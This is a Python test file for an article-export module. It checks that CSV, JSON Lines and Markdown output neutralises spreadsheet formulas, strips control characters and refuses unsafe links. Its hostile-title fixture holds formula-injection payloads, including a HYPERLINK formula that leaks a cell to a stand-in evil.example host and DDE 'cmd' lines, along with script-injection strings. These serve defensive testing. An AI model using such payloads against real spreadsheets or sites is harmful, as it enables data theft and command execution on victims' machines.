"""Writing lists of articles to CSV, JSON Lines and Markdown (reader.export): hostile text
stays text, spreadsheet formulas are neutralised, rows stream in batches, and a failed
write leaves nothing half-written."""

from __future__ import annotations

import csv
import io
import json
import os
import stat
import threading
from collections.abc import Iterator, Mapping, Sequence
from datetime import datetime
from pathlib import Path
from typing import TextIO

import pytest
from markdown_it import MarkdownIt

from reader.export import (
    ARTICLE_COLUMNS,
    BATCH,
    INITIATIVE_COLUMNS,
    ExportHeading,
    Written,
    format_for,
    markdown_link,
    markdown_text,
    spreadsheet_cell,
    write_export,
    write_file,
)
from reader.model import ArticleSummary
from reader.text.sanitize import strip_control

HOSTILE_TITLES = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tstarts with a tab",
    "\rstarts with a carriage return",
    "＝full-width equals",
    'quotes " and, commas\nand a line break',
    "escape \x1b[2J and bell \x07 and C1 \x9b",
    "[link](javascript:alert(1)) <script>alert(1)</script> **bold** `code` ![img](x)",
    "# heading\n- list\n1. numbered > quote | pipe ~strike~ &amp; &#27;",
    "plain title",
]


def summary(
    number: int, title: str, initiatives: int = 2, url: str | None = None
) -> ArticleSummary:
    return ArticleSummary(
        f"{number:05d}.md",
        title,
        "Kent",
        datetime(2019, 9, 27, 7, 45),
        url if url is not None else f"https://example.org/{number}",
        100,
        initiatives,
    )


def initiatives_of(ids: Sequence[str]) -> Mapping[str, Sequence[str]]:
    return {article_id: [f"first of {article_id}", "=second"] for article_id in ids}


def export(rows: list[ArticleSummary], format_name: str, **options: object) -> str:
    out = io.StringIO(newline="")
    write_export(out, rows, initiatives_of, format_name=format_name, **options)  # type: ignore[arg-type]
    return out.getvalue()


# -- CSV --------------------------------------------------------------------------------


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "＝", "＋", "－", "＠"])
def test_every_formula_start_is_neutralised(start: str) -> None:
    assert spreadsheet_cell(f"{start}1+1") == f"'{start}1+1"


def test_a_carriage_return_is_removed_and_what_follows_judged() -> None:
    assert spreadsheet_cell("\r=1+1") == "'=1+1"
    assert spreadsheet_cell("a\rb") == "ab"


def test_text_that_is_no_formula_is_kept() -> None:
    for text in ("Kent", "a=b", "1+1", " =x", "", "'quoted"):
        assert spreadsheet_cell(text) == text


def test_hostile_titles_survive_a_csv_round_trip() -> None:
    rows = [summary(number, title) for number, title in enumerate(HOSTILE_TITLES)]
    text = export(rows, "csv")
    read = list(csv.reader(io.StringIO(text, newline="")))
    assert read[0] == list(ARTICLE_COLUMNS)
    assert len(read) == len(HOSTILE_TITLES) + 1
    for cells, title in zip(read[1:], HOSTILE_TITLES, strict=True):
        shown = cells[1]
        # No cell a spreadsheet would run, no terminal control character, the text
        # otherwise whole.
        assert shown[0] not in "=+-@\t\r＝"
        assert not any(ord(char) < 32 and char not in "\n\t" for char in shown)
        assert not any(0x7F <= ord(char) <= 0x9F for char in shown)
        assert shown.removeprefix("'") == strip_control(title)
        assert cells[2:5] == ["2019-09-27", "2019-09-27T07:45:00", "Kent"]
        assert cells[6] == "2"
        assert cells[7] == f"first of {cells[0]}\n=second"  # a formula starts a cell
    for cells in read[1:]:
        for cell in cells:
            assert cell == "" or cell[0] not in "=+-@\t\r"


def test_initiative_rows_one_per_initiative() -> None:
    rows = [summary(1, "One"), summary(2, "None", initiatives=0), summary(3, "Three")]
    read = list(csv.reader(io.StringIO(export(rows, "csv", initiatives=True), newline="")))
    assert read[0] == list(INITIATIVE_COLUMNS)
    assert [(cells[0], cells[1], cells[2]) for cells in read[1:]] == [
        ("00001.md", "1", "first of 00001.md"),
        ("00001.md", "2", "'=second"),
        ("00003.md", "1", "first of 00003.md"),
        ("00003.md", "2", "'=second"),
    ]


# -- JSON Lines -------------------------------------------------------------------------


def test_json_lines_one_object_a_line() -> None:
    rows = [summary(number, title) for number, title in enumerate(HOSTILE_TITLES)]
    lines = export(rows, "jsonl").splitlines()
    assert len(lines) == len(HOSTILE_TITLES)
    records = [json.loads(line) for line in lines]
    assert records[0] == {
        "id": "00000.md",
        "title": HOSTILE_TITLES[0],
        "published": "2019-09-27T07:45:00",
        "area": "Kent",
        "url": "https://example.org/0",
        "initiatives": ["first of 00000.md", "=second"],
    }
    escape = records[HOSTILE_TITLES.index("escape \x1b[2J and bell \x07 and C1 \x9b")]
    assert escape["title"] == "escape [2J and bell  and C1 "
    per_initiative = export(rows[:1], "jsonl", initiatives=True).splitlines()
    assert [json.loads(line)["number"] for line in per_initiative] == [1, 2]


# -- Markdown ---------------------------------------------------------------------------


def rendered(markdown: str) -> str:
    return MarkdownIt("commonmark").enable("table").enable("strikethrough").render(markdown)


@pytest.mark.parametrize("title", HOSTILE_TITLES)
def test_hostile_text_is_literal_markdown(title: str) -> None:
    html = rendered(f"## {markdown_text(title)}\n\n1. {markdown_text(title)}\n")
    for made in ("<a ", "<img", "<script", "<em>", "<strong>", "<code>", "<del>", "<s>", "<table"):
        assert made not in html, (title, html)
    assert html.count("<h2>") == 1 and html.count("<li>") == 1
    assert "\x1b" not in html and "\x07" not in html


def test_markdown_text_reads_back_as_written() -> None:
    text = "Kent & Essex: 50% [up] *again* <b>"
    html = rendered(markdown_text(text))
    assert html == "<p>Kent &amp; Essex: 50% [up] *again* &lt;b&gt;</p>\n"


def test_links_only_to_what_the_reader_would_open() -> None:
    assert markdown_link("https://example.org/a") == "<https://example.org/a>"
    refused = markdown_link("javascript:alert(1)")
    assert "](" not in refused and "<javascript" not in refused
    assert "not opened" in refused
    assert "<a " not in rendered(markdown_link("https://bank.example@evil.example/"))
    idn = rendered(markdown_link("https://www.pаypal.com/"))
    assert 'href="https://www.xn--pypal-4ve.com/"' in idn


def test_markdown_report() -> None:
    heading = ExportHeading("kent -burglary", "/news", "newest first", datetime(2026, 1, 2, 3, 4))
    rows = [summary(1, "One *star*"), summary(2, "Two", initiatives=0, url="")]
    text = export(rows, "md", heading=heading)
    assert text.startswith(
        "# Articles: kent -burglary\n\n"
        "The articles of /news, newest first; exported 2026-01-02 03:04.\n\n"
    )
    assert "## One \\*star\\*\n\n2019-09-27 · Kent · <https://example.org/1>\n\n" in text
    assert "1. first of 00001.md\n2. \\=second\n" in text
    assert "## Two\n\n2019-09-27 · Kent\n\n## " not in text  # the last: nothing follows
    assert text.endswith("## Two\n\n2019-09-27 · Kent\n\n")
    only = export(rows, "md", heading=heading, initiatives=True)
    assert "## Two" not in only and "The initiatives of the articles of /news" in only


# -- streaming and files ----------------------------------------------------------------


def test_rows_stream_a_batch_at_a_time() -> None:
    """However many rows, the store is asked for a batch of initiatives at a time and
    each row is written before the next batch is read."""
    asked: list[int] = []
    out = io.StringIO()

    def counting(ids: Sequence[str]) -> Mapping[str, Sequence[str]]:
        asked.append(len(ids))
        # Everything of the batches before is written already.
        assert out.getvalue().count("\r\n") == 1 + (len(asked) - 1) * BATCH
        return initiatives_of(ids)

    def rows() -> Iterator[ArticleSummary]:
        for number in range(BATCH * 3 + 7):
            yield summary(number, f"Title {number}")

    written = write_export(out, rows(), counting, format_name="csv")
    assert asked == [BATCH, BATCH, BATCH, 7]
    assert (written.rows, written.articles) == (BATCH * 3 + 7, BATCH * 3 + 7)


def test_suffixes_choose_formats() -> None:
    assert format_for("out.CSV") == "csv"
    assert format_for("a.jsonl") == format_for("a.ndjson") == "jsonl"
    assert format_for("r.md") == format_for("r.markdown") == "md"
    assert format_for("out.txt") is None


def test_a_failed_write_leaves_the_old_file_and_no_temp(tmp_path: Path) -> None:
    target = tmp_path / "out.csv"
    target.write_text("before", encoding="utf-8")

    def failing(out: io.TextIOBase) -> Written:
        out.write("half")
        raise OSError(28, "No space left on device")

    with pytest.raises(OSError):
        write_file(target, failing)  # type: ignore[arg-type]
    assert target.read_text(encoding="utf-8") == "before"
    assert os.listdir(tmp_path) == ["out.csv"]


def test_a_file_is_written_whole_with_the_usual_permissions(tmp_path: Path) -> None:
    target = tmp_path / "out.csv"
    rows = [summary(1, "One")]
    written = write_file(
        target, lambda out: write_export(out, rows, initiatives_of, format_name="csv")
    )
    assert written.rows == 1
    assert target.read_bytes().startswith(b"id,title,")
    assert b"\r\n" in target.read_bytes()  # CSV's own line ends, untranslated
    mask = os.umask(0)
    os.umask(mask)
    assert target.stat().st_mode & 0o777 == 0o666 & ~mask
    with pytest.raises(IsADirectoryError):
        write_file(tmp_path, lambda out: Written())


def _one_row(out: TextIO) -> Written:
    return write_export(out, [summary(1, "One")], initiatives_of, format_name="csv")


def test_a_link_is_followed_and_a_replaced_file_keeps_its_permissions(tmp_path: Path) -> None:
    target = tmp_path / "private.csv"
    target.write_text("old", encoding="utf-8")
    target.chmod(0o600)
    link = tmp_path / "link.csv"
    link.symlink_to(target.name)
    write_file(link, _one_row)
    assert link.is_symlink() and link.resolve() == target
    assert target.read_bytes().startswith(b"id,title,")
    assert target.stat().st_mode & 0o777 == 0o600
    assert sorted(os.listdir(tmp_path)) == ["link.csv", "private.csv"]


def test_a_pipe_is_written_into_not_replaced(tmp_path: Path) -> None:
    pipe = tmp_path / "pipe"
    os.mkfifo(pipe)
    received: list[bytes] = []
    reading = threading.Thread(target=lambda: received.append(pipe.read_bytes()))
    reading.start()
    write_file(pipe, _one_row)
    reading.join(10)
    assert received and received[0].startswith(b"id,title,")
    assert stat.S_ISFIFO(os.stat(pipe).st_mode)


def test_a_title_ending_in_hashes_keeps_them_in_the_report() -> None:
    for title in ("Tag ##", "Vote for option #", "# Heading"):
        rendered = MarkdownIt().render(f"## {markdown_text(title)}")
        assert f"<h2>{title}</h2>" in rendered, (title, rendered)
